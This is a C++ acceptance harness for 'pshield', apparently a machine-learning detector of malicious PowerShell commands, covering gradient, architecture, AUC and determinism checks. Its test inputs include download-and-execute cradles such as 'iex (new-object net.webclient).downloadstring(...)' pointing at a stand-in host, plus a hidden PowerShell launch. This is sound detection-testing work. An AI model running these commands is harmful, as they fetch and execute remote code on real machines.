// Acceptance harness: runs the eight end-to-end criteria and prints one
// PASS/FAIL line for each. Exit status is nonzero when any criterion fails.
//
//   pshield_acceptance --cli <path to pshield> --work <scratch dir> [--only 1,4,8]
#include <algorithm>
#include <chrono>
#include <cmath>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <map>
#include <random>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "CLI11.hpp"
#include "fuzz_commands.hpp"
#include "normalizer_laws.hpp"
#include "oracles.hpp"
#include "pshield/corpus.hpp"
#include "pshield/ensemble.hpp"
#include "pshield/evaluator.hpp"
#include "pshield/model_io.hpp"
#include "pshield/ops.hpp"
#include "pshield/pipeline.hpp"

namespace fs = std::filesystem;
using namespace pshield;
using nn::Parameter;
using nn::Shape;
using nn::Tensor;

namespace {

struct Outcome {
  bool pass = false;
  std::string detail;
};

std::string fmt(const char* pattern, double v) {
  char buf[64];
  std::snprintf(buf, sizeof buf, pattern, v);
  return buf;
}

// ------------------------------------------------------------ criterion 1

std::vector<double> randoms(std::size_t n, Rng& rng, double lo = -1.0, double hi = 1.0) {
  std::vector<double> v(n);
  for (double& x : v) x = rng.uniform(lo, hi);
  return v;
}

Parameter param(const char* name, Shape shape, Rng& rng) {
  const std::size_t n = nn::shape_size(shape);
  return Parameter(name, std::move(shape), randoms(n, rng));
}

// Random weighting so every output coordinate gets its own gradient.
Tensor probe(const Tensor& t, std::uint64_t seed) {
  Rng rng(seed + 7777);
  return nn::sum(nn::mul(t, Tensor::from(t.shape(), randoms(t.size(), rng))));
}

// Central differences computed here rather than with the library's
// grad_check, over at most 200 coordinates.
struct FdStats {
  double worst = 0.0;
  std::size_t coordinates = 0;
  std::size_t violations = 0;      // relative error >= 1e-4
  double largest_violating = 0.0;  // max |analytic| among violations
};

FdStats fd_stats;

double max_fd_error(const std::function<Tensor()>& loss, const std::vector<Parameter*>& ps,
                    std::uint64_t seed) {
  for (auto* p : ps) p->tensor().zero_grad();
  nn::backward(loss());
  std::vector<std::pair<std::size_t, std::size_t>> coords;
  std::vector<std::vector<double>> analytic;
  for (std::size_t i = 0; i < ps.size(); ++i) {
    const auto g = ps[i]->tensor().grad();
    analytic.emplace_back(g.begin(), g.end());
    if (analytic.back().empty()) analytic.back().assign(ps[i]->tensor().size(), 0.0);
    for (std::size_t j = 0; j < ps[i]->tensor().size(); ++j) coords.emplace_back(i, j);
  }
  std::mt19937_64 pick(seed);
  std::shuffle(coords.begin(), coords.end(), pick);
  if (coords.size() > 200) coords.resize(200);

  const double eps = 1e-5;
  double worst = 0.0;
  for (auto [i, j] : coords) {
    auto v = ps[i]->tensor().mutable_values();
    const double saved = v[j];
    v[j] = saved + eps;
    const double up = loss().item();
    v[j] = saved - eps;
    const double down = loss().item();
    v[j] = saved;
    const double numeric = (up - down) / (2 * eps);
    const double a = analytic[i][j];
    const double rel = std::abs(a - numeric) / std::max({std::abs(a), std::abs(numeric), 1e-8});
    ++fd_stats.coordinates;
    if (rel >= 1e-4) {
      ++fd_stats.violations;
      fd_stats.largest_violating = std::max(fd_stats.largest_violating, std::abs(a));
    }
    worst = std::max(worst, rel);
  }
  return worst;
}

NormalizedCommand cmd(std::string s) { return preprocess(RawCommand{std::move(s), ""}); }

ModelSpec tiny(ModelKind kind) {
  ModelSpec s = ModelSpec::defaults(kind);
  if (kind == ModelKind::cnn4) {
    s.max_len = 16;
    s.conv_filters = 4;
    s.fc_widths = {8, 8};
  } else if (kind == ModelKind::cnn9) {
    s.max_len = 32;
    s.conv_filters = 3;
    s.conv_widths = {3, 3, 2, 2, 2, 2};
    s.pool_size = 2;
    s.fc_widths = {6, 6};
  } else {
    s.max_len = 20;
    s.embedding_dim = 4;
    s.lstm_hidden = 3;
    s.fc_widths = {5, 5};
  }
  return s;
}

Outcome criterion1() {
  const auto start = std::chrono::steady_clock::now();
  const int kSeeds = 20;
  std::map<std::string, double> worst;
  auto record = [&](const std::string& what, double err) {
    worst[what] = std::max(worst[what], err);
  };

  for (std::uint64_t seed = 0; seed < kSeeds; ++seed) {
    Rng rng(9000 + seed);
    auto x = param("x", {3, 9}, rng);
    auto w = param("w", {4, 3, 3}, rng);
    auto b = param("b", {4}, rng);
    const std::vector<Parameter*> conv_ps{&x, &w, &b};
    record("conv1d", max_fd_error([&] { return probe(nn::conv1d(x, w, b, 2), seed); }, conv_ps, seed));
    record("maxpool1d", max_fd_error([&] { return probe(nn::maxpool1d(x, 2), seed); }, conv_ps, seed));

    auto v = param("v", {2, 5}, rng);
    auto dw = param("dw", {3, 5}, rng);
    auto db = param("db", {3}, rng);
    const std::vector<Parameter*> dense_ps{&v, &dw, &db};
    record("dense", max_fd_error([&] { return probe(nn::dense(v, dw, db), seed); }, dense_ps, seed));
    for (auto [kind, name] : {std::pair{nn::Activation::tanh, "tanh"},
                              std::pair{nn::Activation::sigmoid, "sigmoid"},
                              std::pair{nn::Activation::relu, "relu"}}) {
      record(name, max_fd_error([&] { return probe(nn::activation(v, kind), seed); }, dense_ps, seed));
    }

    auto table = param("table", {6, 3}, rng);
    const int codes[] = {1, 4, 1, 0, 5};
    record("embedding",
           max_fd_error([&] { return probe(nn::embedding(codes, table), seed); }, {&table}, seed));

    auto in = param("in", {4}, rng);
    auto h = param("h", {3}, rng);
    auto c = param("c", {3}, rng);
    auto wi = param("wi", {12, 4}, rng);
    auto wr = param("wr", {12, 3}, rng);
    auto bl = param("bl", {12}, rng);
    const nn::LstmParams cell{wi, wr, bl};
    record("lstm_step", max_fd_error(
                            [&] {
                              auto s = nn::lstm_step(in, {h, c}, cell);
                              return nn::add(probe(s.h, seed), probe(s.c, seed + 1));
                            },
                            {&in, &h, &c, &wi, &wr, &bl}, seed));

    auto seq = param("seq", {5, 4}, rng);
    auto wi2 = param("wi2", {12, 4}, rng);
    auto wr2 = param("wr2", {12, 3}, rng);
    auto bl2 = param("bl2", {12}, rng);
    const nn::LstmParams back{wi2, wr2, bl2};
    record("bilstm", max_fd_error([&] { return probe(nn::bilstm(seq, cell, back), seed); },
                                  {&seq, &wi, &wr, &bl, &wi2, &wr2, &bl2}, seed));

    auto logits = param("logits", {6}, rng);
    const double labels[] = {1, 0, 0, 1, 1, 0};
    record("bce", max_fd_error([&] { return nn::bce_loss(nn::sigmoid(logits), labels); },
                               {&logits}, seed));

    const std::vector<NormalizedCommand> batch{
        cmd("iex (new-object net.webclient).downloadstring('http://a.b/c')"),
        cmd("Get-ChildItem -Path C:\\Windows -Recurse"), cmd("powershell -nop -w hidden"),
        cmd("Set-Location ~"), cmd("")};
    const std::vector<double> model_labels{1, 0, 1, 0, 1};
    for (auto kind : {ModelKind::cnn4, ModelKind::cnn9, ModelKind::lstm}) {
      Rng init(seed + 1);
      auto model = build_deep(tiny(kind), CharVocabulary::pinned_default(), init);
      auto ps = model->parameters();
      // Zero-initialized biases sit on the relu kink; move them off it.
      for (auto* p : ps) {
        for (double& val : p->tensor().mutable_values()) val += rng.uniform(-0.3, 0.3);
      }
      record("model " + std::string(to_string(kind)),
             max_fd_error(
                 [&] {
                   Rng drop(seed + 100);
                   return nn::bce_loss(model->forward(batch, true, drop), model_labels);
                 },
                 {ps.begin(), ps.end()}, seed));
    }
  }
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  double overall = 0.0;
  std::string worst_name;
  for (const auto& [name, err] : worst) {
    if (err >= overall) overall = err, worst_name = name;
  }
  std::string detail = std::to_string(worst.size()) + " layers/models x " +
                       std::to_string(kSeeds) + " seeds, " +
                       std::to_string(fd_stats.coordinates) + " coordinates, max relative error " +
                       fmt("%.2e", overall) + " (" + worst_name + ")";
  if (fd_stats.violations > 0) {
    // A one-ulp change in the loss moves a central difference by about
    // 1e-16 / 2e-5 = 5e-12, so gradients below ~1e-7 cannot be resolved
    // to 1e-4 relative at this step size.
    detail += "; " + std::to_string(fd_stats.violations) + " coordinates over 1e-4, all with |grad| <= " +
              fmt("%.1e", fd_stats.largest_violating);
  }
  return {overall < 1e-4 && secs < 120.0, detail + ", " + fmt("%.1f", secs) + "s"};
}

// ------------------------------------------------------------ criterion 2

Outcome criterion2() {
  Rng rng(42);
  double auc_err = 0.0;
  for (int set = 0; set < 200; ++set) {
    const std::size_t n = 2 + rng.below(199);
    const std::size_t levels = 1 + rng.below(std::max<std::size_t>(2, n / 2));
    std::vector<ScoredItem> items(n);
    std::vector<std::pair<double, bool>> plain(n);
    for (std::size_t i = 0; i < n; ++i) {
      const bool label = i == 0 ? true : i == 1 ? false : rng.below(2) == 1;
      const double score = static_cast<double>(rng.below(levels)) / static_cast<double>(levels);
      items[i] = {score, label};
      plain[i] = {score, label};
    }
    auc_err = std::max(auc_err, std::abs(roc_auc(items).auc - oracle::pairwise_auc(plain)));
  }

  double conv_err = 0.0, pool_err = 0.0;
  for (int shape = 0; shape < 100; ++shape) {
    const std::size_t c = 1 + rng.below(8), k = 1 + rng.below(8), w = 1 + rng.below(5);
    const std::size_t len = w + rng.below(40), stride = 1 + rng.below(3);
    std::vector<double> x(c * len);
    if (shape % 2 == 0) {
      x = randoms(c * len, rng);
    } else {
      std::fill(x.begin(), x.end(), 0.0);  // one-hot columns, as the CNNs see them
      for (std::size_t t = 0; t < len; ++t) x[rng.below(c) * len + t] = 1.0;
    }
    const auto kw = randoms(k * c * w, rng), kb = randoms(k, rng);
    const auto out = nn::conv1d(Tensor::from({c, len}, x), Tensor::from({k, c, w}, kw),
                                Tensor::from({k}, kb), stride);
    const auto expect = oracle::conv1d(x, c, len, kw, k, w, kb, stride);
    if (out.size() != expect.size()) return {false, "conv1d output size mismatch"};
    for (std::size_t i = 0; i < expect.size(); ++i) {
      conv_err = std::max(conv_err, std::abs(out.values()[i] - expect[i]));
    }

    const std::size_t window = 1 + rng.below(4), pstride = 1 + rng.below(4);
    const std::size_t plen = window + rng.below(30);
    const auto px = randoms(k * plen, rng);
    const auto pooled = nn::maxpool1d(Tensor::from({k, plen}, px), window, pstride);
    const auto pexpect = oracle::maxpool1d(px, k, plen, window, pstride);
    if (pooled.size() != pexpect.size()) return {false, "maxpool1d output size mismatch"};
    for (std::size_t i = 0; i < pexpect.size(); ++i) {
      pool_err = std::max(pool_err, std::abs(pooled.values()[i] - pexpect[i]));
    }
  }
  return {auc_err <= 1e-12 && conv_err <= 1e-12 && pool_err <= 1e-12,
          "200 AUC sets max |diff| " + fmt("%.1e", auc_err) + "; 100 shapes conv1d " +
              fmt("%.1e", conv_err) + ", maxpool1d " + fmt("%.1e", pool_err)};
}

// ------------------------------------------------------------ criterion 3

Outcome criterion3() {
  std::vector<double> values;
  for (int i = 0; i <= 100; ++i) values.push_back(i / 100.0);
  const double gate = 0.99;
  for (double b : {std::nextafter(gate, 0.0), gate, std::nextafter(gate, 1.0)}) values.push_back(b);

  std::size_t checked = 0, max_branch = 0, mismatches = 0;
  for (double a : values) {
    for (double b : values) {
      const double hi = a > b ? a : b;
      const double expect = hi >= gate ? hi : (a + b) / 2;
      const double got = combine(a, b);
      ++checked;
      max_branch += hi >= gate;
      if (!(got == expect)) ++mismatches;
    }
  }
  return {mismatches == 0, std::to_string(checked) + " pairs, " + std::to_string(max_branch) +
                               " on the max branch, " + std::to_string(mismatches) + " mismatches"};
}

// ------------------------------------------------------------ criterion 4

Outcome criterion4() {
  Rng rng(4444);
  std::vector<NormalizedCommand> all;
  std::size_t decoded = 0, warned = 0;
  for (int i = 0; i < 10000; ++i) {
    const std::string raw = fuzz::command(rng);
    if (auto err = laws::check_command(raw); !err.empty()) return {false, err};
    all.push_back(preprocess(RawCommand{raw, ""}));
    decoded += all.back().was_base64_decoded;
    warned += all.back().decode_warning.has_value();
    if (i % 5 == 0) {
      // Re-cased copy of an earlier command, to populate the case classes.
      std::string t = all[rng.below(all.size())].text;
      for (char& c : t) {
        if (c >= 'a' && c <= 'z' && rng.below(2)) c = static_cast<char>(c - 'a' + 'A');
      }
      all.push_back(normalize(RawCommand{t, ""}));
    }
  }
  if (auto err = laws::check_dedup(all); !err.empty()) return {false, err};

  std::size_t recovered = 0;
  for (int i = 0; i < 1000; ++i) {
    const std::string payload = fuzz::ascii_payload(rng, 200);
    const auto wrapped = apply_obfuscation(3, payload, rng);
    if (!wrapped) continue;
    const auto d = decode_encoded_command(RawCommand{*wrapped, ""});
    recovered += d.payloads.size() == 1 && d.payloads[0] == payload;
  }
  return {recovered == 1000,
          "10000 fuzzed (" + std::to_string(decoded) + " decoded, " + std::to_string(warned) +
              " malformed), " + std::to_string(all.size()) + " in dedup; " +
              std::to_string(recovered) + "/1000 encoded payloads recovered"};
}

// ------------------------------------------------------------ criterion 5

const LayerShape* find_layer(const std::vector<LayerShape>& trace, const std::string& name) {
  for (const auto& t : trace) {
    if (t.name == name) return &t;
  }
  return nullptr;
}

Outcome criterion5() {
  const auto vocab = CharVocabulary::pinned_default();
  const std::vector<NormalizedCommand> one{cmd("IEX (New-Object Net.WebClient).DownloadString('x')")};
  std::vector<std::string> bad;
  auto expect = [&](const std::vector<LayerShape>& trace, const std::string& layer, Shape want,
                    const std::string& model) {
    const auto* t = find_layer(trace, layer);
    if (!t || t->shape != want) bad.push_back(model + " " + layer);
  };

  // Widths follow from valid convolution and non-overlapping pooling:
  // 1024 - 3 + 1 = 1022 columns, floor(1022 / 3) = 340 after pooling.
  const std::size_t conv_cols = 1024 - 3 + 1, pool_cols = conv_cols / 3;
  {
    Rng init(1), drop(0);
    auto m = build_cnn4(ModelSpec::defaults(ModelKind::cnn4), vocab, init);
    std::vector<LayerShape> trace;
    m->forward(one, false, drop, &trace);
    expect(trace, "input", {vocab.onehot_rows(), 1024}, "cnn4");
    expect(trace, "conv", {128, conv_cols}, "cnn4");
    expect(trace, "pool", {128, pool_cols}, "cnn4");
    expect(trace, "fc1", {1024}, "cnn4");
    expect(trace, "fc2", {1024}, "cnn4");
    expect(trace, "output", {1}, "cnn4");
    if (m->parameter("conv.weight").tensor().shape() != Shape{128, vocab.onehot_rows(), 3}) {
      bad.push_back("cnn4 kernel shape");
    }
  }
  {
    Rng init(2), drop(0);
    auto m = build_cnn9(ModelSpec::defaults(ModelKind::cnn9), vocab, init);
    std::vector<LayerShape> trace;
    m->forward(one, false, drop, &trace);
    expect(trace, "fc1", {256}, "cnn9");
    expect(trace, "fc2", {256}, "cnn9");
    expect(trace, "output", {1}, "cnn9");
  }
  {
    Rng init(3), drop(0);
    auto m = build_lstm(ModelSpec::defaults(ModelKind::lstm), vocab, init);
    std::vector<LayerShape> trace;
    m->forward(one, false, drop, &trace);
    const auto* emb = find_layer(trace, "embedding");
    if (!emb || emb->shape.size() != 2 || emb->shape[1] != 32) bad.push_back("lstm embedding");
    expect(trace, "bilstm", {256}, "lstm");
  }
  if (!bad.empty()) {
    std::string list;
    for (const auto& b : bad) list += (list.empty() ? "" : ", ") + b;
    return {false, "mismatched: " + list};
  }
  return {true, "cnn4 conv 128x1022, pool 128x340, fc 1024/1024; cnn9 fc 256/256; "
                "lstm embedding 32, bilstm 256"};
}

// ------------------------------------------------------------ criterion 6

constexpr std::uint64_t kCorpusSeed = 2024;

std::vector<LabeledExample> pinned_corpus() {
  GenerateParams gp;
  gp.seed = kCorpusSeed;
  gp.n_clean = 2000;
  gp.n_malicious = 500;
  return to_examples(preprocess_corpus(generate_corpus(gp).commands));
}

Outcome criterion6(const fs::path& work) {
  const auto start = std::chrono::steady_clock::now();
  const auto data = pinned_corpus();
  CrossValidationConfig cv;
  cv.folds = 2;
  cv.seed = 1;
  cv.models = {ModelSpec::defaults(ModelKind::ngram3_logreg), ModelSpec::defaults(ModelKind::cnn4)};
  cv.log = [&](const std::string& msg) {
    const double secs =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
    std::cerr << "  [" << fmt("%7.1f", secs) << "s] " << msg << '\n';
  };
  const auto result = cross_validate(data, cv);
  const double secs =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  std::ofstream(work / "criterion6_report.json") << reports_json(result.reports) << '\n';
  std::cerr << reports_text(result.reports);

  double ngram = NAN, cnn = NAN, ens = NAN;
  for (const auto& r : result.reports) {
    if (r.model == "ngram3_logreg") ngram = r.auc;
    if (r.model == "cnn4") cnn = r.auc;
    if (r.model.rfind("ensemble(", 0) == 0) ens = r.auc;
  }
  const bool pass = ngram >= 0.95 && cnn >= 0.90 && ens >= std::max(ngram, cnn) - 0.01 &&
                    secs < 30 * 60;
  return {pass, std::to_string(data.size()) + " commands after dedup; AUC ngram3 " +
                    fmt("%.4f", ngram) + ", cnn4 " + fmt("%.4f", cnn) + ", ensemble " +
                    fmt("%.4f", ens) + "; " + fmt("%.0f", secs) + "s"};
}

// ------------------------------------------------------------ criterion 7

Outcome criterion7() {
  const auto data = pinned_corpus();
  Rng rng(77);
  std::vector<std::pair<NormalizedCommand, NormalizedCommand>> pairs;
  while (pairs.size() < 1000) {
    const auto& original = data[rng.below(data.size())].command;
    std::string flipped = original.text;
    for (char& c : flipped) {
      if (rng.below(2) == 0) continue;
      if (c >= 'a' && c <= 'z') c = static_cast<char>(c - 'a' + 'A');
      else if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
    }
    if (flipped == original.text) continue;
    NormalizedCommand mutated = original;
    mutated.text = flipped;
    pairs.emplace_back(original, std::move(mutated));
  }

  const auto vocab = CharVocabulary::pinned_default();
  ModelSpec star = ModelSpec::defaults(ModelKind::cnn4);
  star.case_bit = false;
  Rng init_star(5), init_cased(5);
  const auto m_star = build_cnn4(star, vocab, init_star);
  const auto m_cased = build_cnn4(ModelSpec::defaults(ModelKind::cnn4), vocab, init_cased);
  std::size_t star_equal = 0, cased_differ = 0;
  for (const auto& [a, b] : pairs) {
    star_equal += m_star->predict_score(a) == m_star->predict_score(b);
    cased_differ += m_cased->predict_score(a) != m_cased->predict_score(b);
  }
  return {star_equal == pairs.size() && cased_differ > 0,
          "4-CNN* bitwise equal on " + std::to_string(star_equal) + "/1000 pairs; with case bit " +
              std::to_string(cased_differ) + "/1000 differ"};
}

// ------------------------------------------------------------ criterion 8

bool same_bytes(const fs::path& a, const fs::path& b) {
  std::ifstream fa(a, std::ios::binary), fb(b, std::ios::binary);
  if (!fa || !fb) return false;
  std::vector<char> ba(1 << 20), bb(1 << 20);
  while (true) {
    fa.read(ba.data(), static_cast<std::streamsize>(ba.size()));
    fb.read(bb.data(), static_cast<std::streamsize>(bb.size()));
    if (fa.gcount() != fb.gcount()) return false;
    if (!std::equal(ba.begin(), ba.begin() + fa.gcount(), bb.begin())) return false;
    if (fa.gcount() == 0 || !fa) return !fb || fb.peek() == EOF;
  }
}

std::string quote(const fs::path& p) { return "'" + p.string() + "'"; }

Outcome criterion8(const fs::path& cli, const fs::path& work) {
  if (cli.empty() || !fs::exists(cli)) return {false, "pshield executable not found (--cli)"};
  const char* outputs[] = {"corpus.jsonl", "corpus.jsonl.manifest.json", "clean.jsonl",
                           "cnn4.model", "report.json", "report.txt"};
  for (const char* run : {"run_a", "run_b"}) {
    const fs::path dir = work / run;
    fs::remove_all(dir);
    fs::create_directories(dir);
    const std::string log = " 2>>" + quote(dir / "stderr.log");
    const std::string steps[] = {
        quote(cli) + " gen-corpus --seed 8 --clean 300 --malicious 80 --out " +
            quote(dir / "corpus.jsonl") + " >/dev/null",
        quote(cli) + " preprocess --in " + quote(dir / "corpus.jsonl") + " --out " +
            quote(dir / "clean.jsonl"),
        quote(cli) + " train --model cnn4 --epochs 2 --seed 3 --in " + quote(dir / "clean.jsonl") +
            " --out " + quote(dir / "cnn4.model"),
        quote(cli) + " evaluate --in " + quote(dir / "clean.jsonl") + " --model " +
            quote(dir / "cnn4.model") + " --json " + quote(dir / "report.json") + " > " +
            quote(dir / "report.txt"),
    };
    for (const auto& step : steps) {
      if (std::system((step + log).c_str()) != 0) {
        return {false, std::string("command failed in ") + run + ": " + step};
      }
    }
  }
  std::size_t bytes = 0;
  for (const char* name : outputs) {
    if (!same_bytes(work / "run_a" / name, work / "run_b" / name)) {
      return {false, std::string(name) + " differs between runs"};
    }
    bytes += fs::file_size(work / "run_a" / name);
  }
  // The model files are large; keep only the small artifacts.
  fs::remove(work / "run_a" / "cnn4.model");
  fs::remove(work / "run_b" / "cnn4.model");
  return {true, "gen-corpus, preprocess, train cnn4, evaluate twice: 6 outputs (" +
                    std::to_string(bytes / 1000000) + " MB) byte-identical"};
}

}  // namespace

int main(int argc, char** argv) {
  CLI::App app{"pshield acceptance criteria"};
  std::string cli_path, work = "acceptance_work";
  std::vector<int> only;
  app.add_option("--cli", cli_path, "pshield executable (criterion 8)");
  app.add_option("--work", work, "scratch directory")->capture_default_str();
  app.add_option("--only", only, "run a subset of criteria")->delimiter(',');
  CLI11_PARSE(app, argc, argv);
  fs::create_directories(work);

  const std::vector<std::pair<const char*, std::function<Outcome()>>> criteria = {
      {"gradient correctness", criterion1},
      {"oracle equivalence", criterion2},
      {"ensemble rule", criterion3},
      {"normalizer laws", criterion4},
      {"architecture conformance", criterion5},
      {"end-to-end synthetic floor", [&] { return criterion6(work); }},
      {"case-bit ablation", criterion7},
      {"determinism", [&] { return criterion8(cli_path, work); }},
  };
  bool all = true;
  for (std::size_t i = 0; i < criteria.size(); ++i) {
    const int id = static_cast<int>(i + 1);
    if (!only.empty() && std::find(only.begin(), only.end(), id) == only.end()) continue;
    Outcome o;
    try {
      o = criteria[i].second();
    } catch (const std::exception& e) {
      o = {false, std::string("exception: ") + e.what()};
    }
    all = all && o.pass;
    std::cout << "criterion " << id << " " << (o.pass ? "PASS" : "FAIL") << "  "
              << criteria[i].first << ": " << o.detail << std::endl;
  }
  return all ? 0 : 1;
}
